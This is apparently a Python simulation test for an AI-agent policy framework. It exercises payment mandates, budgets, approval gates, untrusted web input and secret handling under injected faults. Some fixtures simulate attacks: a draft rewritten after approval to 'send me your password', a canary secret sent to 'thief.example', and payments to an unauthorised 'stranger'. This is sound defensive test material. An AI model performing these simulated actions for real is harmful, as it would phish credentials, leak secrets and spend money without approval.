"""Programs that cost money, ask before they act, read what strangers wrote, and use a secret."""

import asyncio
import base64
from collections.abc import Callable
from random import Random
from typing import Any

from firm import tool
from firm.errors import FirmError
from firm.kernel import Retry, charter_here, current_run, gather, sleep, step, workflow
from firm.policy.action import Action
from firm.policy.capability import Capability, Charter
from firm.policy.gate import command_of
from firm.policy.rule import Mandate, Rule
from firm.policy.rulebook import Rulebook
from firm.policy.within import within
from firm.testing import Job, Options, Program, Report, act, look_up, simulate, world
from firm.testing.corpus import FAILED
from firm.testing.economy import CANARY, Economics
from firm.units.amount import Amount
from firm.units.purse import Limit

OFTEN = Retry(attempts=40, first_s=0.3, max_s=3.0)
MICRO = 1_000_000
FAULTS = (
    "crash",
    "pause",
    "clock",
    "close",
    "commit_before",
    "commit_after",
    "disk_full",
    "read_error",
    "slow",
)


async def do(effect: str, risk: str, args: dict[str, Any], **facts: Any) -> Any:
    """Act on the world, so that the auditor sees what was done."""
    return await act(effect, {"risk": risk, "args": args, "to": "", "usd_micro": 0, **facts})


@tool(risk="read", retry=OFTEN)
async def look_at(shelf: str) -> str:
    await do("repeatable", "read", {"shelf": shelf})
    return shelf


@tool(risk="read", untrusted=True, retry=OFTEN)
async def read_web(page: str) -> str:
    await do("repeatable", "read", {"page": page}, untrusted=True)
    return page


@tool(risk="read", amount="usd", retry=OFTEN)
async def search(words: str, usd: float) -> str:
    """Costs each time it is tried."""
    await do("repeatable", "read", {"words": words, "usd": usd}, usd_micro=round(usd * MICRO))
    return words


@tool(risk="spend", to="payee", amount="usd", reconcile=look_up, retry=OFTEN)
async def pay(payee: str, usd: float) -> Any:
    args = {"payee": payee, "usd": usd}
    return await do("once", "spend", args, to=payee, usd_micro=round(usd * MICRO))


@tool(risk="send", to="to", reconcile=look_up, retry=OFTEN)
async def mail(to: str, note: str) -> Any:
    return await do("once", "send", {"to": to, "note": note}, to=to)


@tool(risk="send", to="to", reconcile=look_up, retry=OFTEN)
async def post(to: str, draft: dict[str, str]) -> Any:
    return await do("once", "send", {"to": to, "draft": dict(draft)}, to=to)


@tool(risk="send", to="to", reconcile=look_up, retry=OFTEN)
async def notify(to: str, text: str) -> Any:
    return await do("once", "send", {"to": to, "text": text}, to=to)


@tool(risk="read", host="host", retry=OFTEN)
async def call_bank(host: str, key: str) -> list[str]:
    """A bank that repeats the key, plain and otherwise, and sometimes in an error."""
    assert key == CANARY
    await do("repeatable", "read", {"host": host})
    return [f"hello {key}", base64.b64encode(f"you are {key}".encode()).decode(), key.encode().hex()]


async def attempt(call: Any) -> Any:
    """Its value, or that it failed."""
    try:
        return await call
    except (FirmError, TimeoutError, ConnectionError):
        return FAILED


@workflow
async def buy(number: int) -> int:
    """Pays what a mandate covers until that is used up; then it asks."""
    await look_at("shelf")
    await gather(*(attempt(pay("hosting", 1 + number / 10 + place / 100)) for place in range(3)))
    await attempt(pay("stranger", 0.5 + number / 10))
    return number


@workflow
async def correspond(number: int) -> int:
    """Sends what the founder has seen: one note twice, and a draft that is changed while the founder reads it."""
    for _ in range(2):
        await attempt(mail(f"client-{number}@example.com", "hello"))
    draft = {"text": "thank you"}
    sending = gather(attempt(post("client@example.com", draft)), tamper(draft))
    await sending
    return number


async def tamper(draft: dict[str, str]) -> None:
    """After the gate has seen it."""
    await sleep(6.0)
    draft["text"] = "send me your password"


@workflow
async def browse(number: int) -> int:
    """May notify without asking until it has read what strangers wrote."""
    await attempt(notify("all@example.com", f"{number} begins"))
    await attempt(read_web(f"page {number}"))
    await attempt(notify("all@example.com", f"{number} says what the page says"))
    with within(agent="clerk", capabilities=[Capability("pay", id="printer", to=("printer",), usd=2.0)]):
        paying = clerk(number)
    return int(await paying)


@workflow
async def clerk(number: int) -> int:
    """Begun by one that has read; pays whom it may, and tries to pay another."""
    await gather(*(attempt(pay("printer", 0.7 + number / 10 + place / 100)) for place in range(2)))
    await attempt(pay("stranger", 0.1))
    return number


@workflow
async def research(number: int) -> int:
    """Two teams, each with a budget that does not suffice."""
    begun = []
    for _ in range(2):
        with within(budget=0.3):
            begun.append(team(number))
    await gather(*begun)
    return number


@workflow
async def team(number: int) -> int:
    """Searches side by side, each search at a price of its own."""
    await gather(*(attempt(search("words", (50 + 10 * place + number) / 1000)) for place in range(6)))
    return number


@step(retry=OFTEN)
async def consult(most: float, usd: float) -> float:
    """As a step that calls a model and then does more: what the call took is known long before the step ends."""
    run = current_run()
    charter = Charter.decode(charter_here())
    action = Action("chat", "read", {"model": "m", "price_date": ""}, run=run.id)
    reserve = command_of(run.firm).reserve
    assert reserve is not None
    held = await reserve(Amount(round(most * MICRO), calls=1), charter.purses, action, charter)
    try:
        await do("repeatable", "read", {}, usd_micro=round(usd * MICRO))
    except BaseException as error:
        held.lose(str(error))
        raise
    held.settle(Amount(round(usd * MICRO), calls=1))
    await world().delay(4.0)
    return usd


@workflow
async def think(number: int) -> int:
    """Consults side by side; some of it is given up, and the rest may be stopped."""
    with within(budget=0.5):
        asking = [consult(0.1 + number / 100, 0.05 + place / 1000) for place in range(8)]
    await gather(*(attempt(asyncio.wait_for(one, 2.0 + place)) for place, one in enumerate(asking)))
    return number


@workflow
async def bank(number: int) -> int:
    """Uses a secret that it never sees."""
    said = await attempt(call_bank("bank.example", "secret:canary"))
    assert CANARY not in str(said)
    await attempt(call_bank("thief.example", "secret:canary"))
    return number


ECONOMICS = Economics(
    Rulebook(
        (Rule("allow", tool="notify", number=1),), (Mandate("hosting", 5.0, per="day", name="hosting"),)
    ),
    most=(Limit("usd_micro", 9 * MICRO),),
    caps={
        "firm": 9 * MICRO,
        "mandate/hosting": 5 * MICRO,
        "capability/printer": 2 * MICRO,
        "run/search-*": 300_000,
        "run/think-*": 500_000,
    },
)
JOBS = {
    "buy": (Job("buy-1", buy, (1,)), Job("buy-2", buy, (2,))),
    "correspond": (Job("mail-1", correspond, (1,)), Job("mail-2", correspond, (2,))),
    "browse": (Job("web-1", browse, (1,)), Job("web-2", browse, (2,))),
    "research": (Job("search-1", research, (1,)), Job("search-2", research, (2,))),
    "think": (
        Job("think-1", think, (1,), halt=True),
        Job("think-2", think, (2,), cancel=True),
        Job("think-3", think, (3,)),
    ),
    "bank": (Job("bank-1", bank, (1,)),),
}


def of(*names: str) -> Callable[[int], Report]:
    """Histories of these jobs, with faults drawn from the seed."""
    jobs = tuple(job for name in names or JOBS for job in JOBS[name])

    def history(seed: int) -> Report:
        random = Random(f"commerce/{seed}")
        faults = frozenset(random.sample(FAULTS, random.choice((0, 2, 4, len(FAULTS)))))
        options = Options(workers=1, faults=faults, harm_s=random.choice((20.0, 40.0)))
        return simulate(Program("commerce", jobs, ECONOMICS), seed=seed, options=options)

    return history
